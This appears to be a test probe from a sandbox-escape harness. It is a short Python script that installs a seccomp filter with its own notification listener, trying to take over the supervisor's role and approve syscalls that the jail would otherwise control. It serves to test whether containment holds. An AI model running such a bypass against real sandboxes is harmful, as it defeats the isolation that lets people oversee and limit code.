# row = "A16"
# boundary = "the supervisor's place at the listener"
# ending = "ok"
# layers = ["seccomp"]
# violations = ["seccomp"]
# control = "without"
"""Installs a filter with a listener of its own, to answer "go on" where the jail's filter asks."""

import ctypes
import struct

from attack import NUMBERS, attempt, call

code = [(0x20, 0, 0, 0), (0x15, 0, 1, int(NUMBERS["kcmp"])), (0x06, 0, 0, 0x7FC00000), (0x06, 0, 0, 0x7FFF0000)]
program = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *instruction) for instruction in code))
argument = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", len(code), ctypes.addressof(program)))
attempt("listener", lambda: f"a listener: descriptor {call('seccomp', 1, 8, argument)}")
